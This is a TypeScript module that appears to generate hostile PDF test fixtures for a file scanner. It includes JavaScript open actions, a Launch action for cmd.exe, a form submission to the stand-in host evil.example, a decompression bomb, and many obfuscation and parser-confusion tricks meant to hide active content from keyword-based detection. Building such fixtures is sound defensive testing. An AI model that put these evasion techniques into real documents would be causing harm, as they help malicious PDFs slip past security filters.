import { deflateSync } from "node:zlib";
import type { Described } from "./hostile-file.ts";

const MB = 1024 * 1024;
const SCRIPT_ACTION = "<</S/JavaScript/JS(app.alert(1))>>";

export const pdf = (objects: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from("%PDF-1.7\n"),
    Buffer.from(objects),
    Buffer.from("\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
  ]);

/** A stream of compressed objects whose dictionary ends in `entries`. */
function packedObjects(entries: string, text = `7 0 ${SCRIPT_ACTION}`, keyword = "stream\n"): Buffer {
  const packed = deflateSync(text);
  const head = `5 0 obj<</N 1/First 4/Length ${packed.length}${entries}>>${keyword}`;
  return Buffer.concat([Buffer.from(head, "latin1"), packed, Buffer.from("\nendstream endobj")]);
}

const objectStream = (text: string, filter = "/FlateDecode"): Buffer =>
  packedObjects(`/Type/ObjStm/Filter ${filter}`, text);

export function hostilePdfs(): Described[] {
  return [...plainPdfs(), ...packedPdfs(), ...misreadPdfs()];
}

function plainPdfs(): Described[] {
  const object = (content: string) => pdf(`1 0 obj${content}endobj`);
  return [
    ["pdf", "a script", object("<</OpenAction<</S/JavaScript/JS(1)>>>>")],
    ["pdf", "a script in codes", object("<</OpenAction<</S/J#61vaScr#69pt/JS(1)>>>>")],
    ["pdf", "a script in a code of a capital", object("<</OpenAction<</S/Java#53cript/JS(1)>>>>")],
    ["pdf", "a script in a code that is not hexadecimal", object("<</OpenAction<</S/Java#3Zcript/JS(1)>>>>")],
    ["pdf", "the start of a program", object("<</A<</S/Launch/F(cmd.exe)>>>>")],
    ["pdf", "a file in a PDF", object("<</Names<</EmbeddedFiles 2 0 R>>>>")],
    ["pdf", "a form that sends", object("<</A<</S/SubmitForm/F(https://evil.example)>>>>")],
    ["pdf", "a film", object("<</Subtype/RichMedia>>")],
    ["pdf", "another file that is opened", object("<</A<</S/GoToR/F(x.pdf)>>>>")],
    ["pdf", "a form of its own language", object("<</AcroForm<</XFA 3 0 R>>>>")],
    ["pdf", "a form of its own language behind a comment", object("<</AcroForm<</XFA %c\n3 0 R>>>>")],
    ["pdf", "an encrypted PDF", pdf("1 0 obj<<>>endobj\ntrailer<</Encrypt 3 0 R>>")],
    ["pdf", "an encrypted PDF behind a comment", pdf("1 0 obj<<>>endobj\ntrailer<</Encr#79pt%c\r3 0 R>>")],
    ["pdf", "nothing but starts of dictionaries", pdf(`${"obj<<".repeat(1_000_000)}/First`)],
    ["pdf", "nothing but starts of strings", pdf(`${"obj<</A(".repeat(1_000_000)}/First`)],
  ];
}

/** Objects that are compressed in the usual and in unusual ways. */
function packedPdfs(): Described[] {
  const flate = "/Filter/FlateDecode";
  const stream = (entries: string) => pdf(packedObjects(entries));
  const update = Buffer.concat([pdf("1 0 obj<<>>endobj"), packedObjects(`/Type/ObjStm${flate}`)]);
  return [
    ["pdf", "a script among compressed objects", pdf(objectStream(`1 0 ${SCRIPT_ACTION}`))],
    ["pdf", "objects in two filters", stream("/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]")],
    ["pdf", "objects in the same filter twice", stream("/Type/ObjStm/Filter[/FlateDecode/FlateDecode]")],
    ["pdf", "objects in a filter of an array", stream("/Type/ObjStm/Filter[ %c\n/FlateDecode ]")],
    ["pdf", "objects in a short name of a filter", stream("/Type/ObjStm/Filter/Fl")],
    ["pdf", "objects in a filter under a short name", stream("/Type/ObjStm/F/FlateDecode")],
    ["pdf", "objects in a filter that is told twice", stream(`/Type/ObjStm${flate}/Filter/ASCIIHexDecode`)],
    [
      "pdf",
      "objects with a predictor",
      stream(`/Type/ObjStm${flate}/DecodeParms<</Predictor 12/Columns 4>>`),
    ],
    ["pdf", "objects with parameters elsewhere", stream(`/Type/ObjStm${flate}/DecodeParms 9 0 R`)],
    ["pdf", "objects in an update", update],
    ["pdf", "objects that explode", pdf(objectStream("a".repeat(40 * MB)))],
    ["pdf", "objects that are cut", pdf(packedObjects(`/Type/ObjStm${flate}`).subarray(0, 110))],
  ];
}

/** Dictionaries that a search for words reads differently than a reader of PDF. */
function misreadPdfs(): Described[] {
  const flate = "/Filter/FlateDecode";
  const stream = (entries: string, keyword?: string) => pdf(packedObjects(entries, undefined, keyword));
  const filler = " ".repeat(9000);
  return [
    ["pdf", "a script behind a misleading word", stream(`${flate}/X(obj)/Type/ObjStm`)],
    ["pdf", "a script behind a word in a known entry", stream(`${flate}/Extends(obj)/Type/ObjStm`)],
    ["pdf", "a filter that is another object", stream("/Type/ObjStm/Filter 6 0 R")],
    ["pdf", "a filter behind a comment", stream("/Type/ObjStm/Filter %c\n/FlateDecode")],
    [
      "pdf",
      "a filter whose comment ends the dictionary",
      stream(`/Type/ObjStm/Filter%>>stream\r/FlateDecode`),
    ],
    ["pdf", "a filter in codes", stream("/Type/ObjStm/#46ilter/Flate#44ecode")],
    ["pdf", "a type in codes", stream(`/Type/Obj#53tm${flate}`)],
    ["pdf", "objects of no type", stream(flate)],
    ["pdf", "objects of another type", stream(`/Type/XRef${flate}`)],
    ["pdf", "objects of no type behind a string", stream(`/DL(>>stream\n)${flate}`)],
    ["pdf", "a long dictionary", stream(`${flate}/DL 1${filler}/Type/ObjStm${filler}`)],
    ["pdf", "a long dictionary of no type", stream(`${flate}${filler}`)],
    ["pdf", "a dictionary with a closing mark as value", stream(`/A<</B>> >>${flate}`)],
    ["pdf", "a dictionary with a closing mark in an array", stream(`/A[>>]${flate}`)],
    ["pdf", "a dictionary with a stray word", stream(`/A[a<<]${flate}`)],
    ["pdf", "a dictionary with a stray bracket", stream(`/A ) /B${flate}`)],
    ["pdf", "a keyword behind a comment", stream(flate, "%c\nstream\n")],
    ["pdf", "a keyword behind an unusual blank", stream(flate, "\u0080stream\n")],
    ["pdf", "data behind the rest of a line", stream(flate, "stream x\n")],
    ["pdf", "a type that is counted twice", twice()],
  ];
}

/** One dictionary stands before two keywords, and the real one is out of sight. */
function twice(): Buffer {
  const harmless = deflateSync("7 0 <<>>");
  const head = "4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n";
  const second = Buffer.concat([Buffer.from("\nstream\n"), harmless, Buffer.from("\nendstream endobj\n")]);
  const hidden = packedObjects(`/Type/ObjStm/Filter/FlateDecode${" ".repeat(5000)}`);
  return pdf(Buffer.concat([Buffer.from(head), harmless, second, hidden]));
}
